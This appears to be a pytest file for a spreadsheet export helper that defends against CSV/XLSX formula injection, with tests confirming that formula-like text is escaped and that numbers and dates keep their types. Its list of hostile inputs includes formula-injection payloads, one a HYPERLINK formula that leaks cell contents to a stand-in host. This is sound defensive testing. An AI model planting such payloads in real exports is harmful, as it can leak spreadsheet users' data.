"""The one spreadsheet helper every export uses: text never becomes a formula (XLSX:
a string cell with Excel's quote prefix, the value unchanged; CSV: a leading apostrophe,
OWASP's advice), numbers and dates stay numbers and dates."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timezone

import pytest
from openpyxl import Workbook, load_workbook

from lti_tool import spreadsheet

HOSTILE = ['=HYPERLINK("http://x/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1",
           "\u3000=1", "＝1+1", "=", "-"]
HARMLESS = ["张伟", "E1001", "8/10", "a=b", "-5", "+3.5", "1e5", "", "售后 - 一部"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_recognised(text):
    assert spreadsheet.looks_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_and_plain_numbers_are_left_alone(text):
    assert not spreadsheet.looks_like_formula(text)


def test_csv_fields_get_an_apostrophe_and_numbers_stay_numbers():
    data = spreadsheet.csv_bytes(["name", "score", "day"],
                                 [[text, -5, date(2026, 3, 2)] for text in HOSTILE] + [["张伟", 8.5, None]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE] + ["张伟"]
    assert {row[1] for row in rows[1:]} == {"-5", "8.5"} and rows[1][2] == "2026-03-02" and rows[-1][2] == ""


def _book(values) -> bytes:
    book = Workbook()
    spreadsheet.append(book.active, values)
    return spreadsheet.xlsx_bytes(book)


def test_xlsx_text_is_a_string_cell_never_a_formula():
    data = _book([*HOSTILE, "张伟", -5, 2.5, date(2026, 3, 2), datetime(2026, 3, 2, 9, 30), None])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in xml and 't="inlineStr"' in xml and 'quotePrefix="1"' in styles
    cells = list(load_workbook(io.BytesIO(data)).active.iter_rows())[0]
    for cell, text in zip(cells, HOSTILE, strict=False):
        assert (cell.data_type, cell.quotePrefix) == ("s", True), text
        assert cell.value in (text, text.replace("\r", "\n"))  # XML reads a CR as a line feed
    name, negative, number, day, moment = cells[len(HOSTILE):len(HOSTILE) + 5]
    assert (name.value, name.data_type, name.quotePrefix) == ("张伟", "s", False)
    assert (negative.value, negative.data_type) == (-5, "n") and number.value == 2.5
    assert day.is_date and day.value == datetime(2026, 3, 2) and day.number_format == spreadsheet.DATE_FORMAT
    assert moment.is_date and moment.value == datetime(2026, 3, 2, 9, 30)


def test_characters_xml_cannot_hold_are_dropped_not_fatal():
    cell = load_workbook(io.BytesIO(_book(["张\x07伟\x00"]))).active["A1"]
    assert cell.value == "张伟"


def test_an_aware_time_must_be_made_local_first():
    aware = datetime(2026, 3, 2, 1, 30, tzinfo=timezone.utc)
    with pytest.raises(ValueError):
        _book([aware])
    assert spreadsheet.local(aware, "Asia/Shanghai") == datetime(2026, 3, 2, 9, 30)
    assert spreadsheet.local(aware, "Asia/Shanghai", day=True) == date(2026, 3, 2)
    assert spreadsheet.local(None, "Asia/Shanghai") is None
